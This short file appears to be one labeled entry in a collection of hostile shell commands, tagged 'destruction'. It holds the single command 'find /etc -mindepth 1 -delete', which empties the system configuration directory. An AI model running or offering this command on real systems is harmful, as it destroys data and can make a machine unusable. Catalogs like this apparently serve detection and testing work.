# description: Empties /etc with find -mindepth 1 -delete.
# family: destruction
find /etc -mindepth 1 -delete
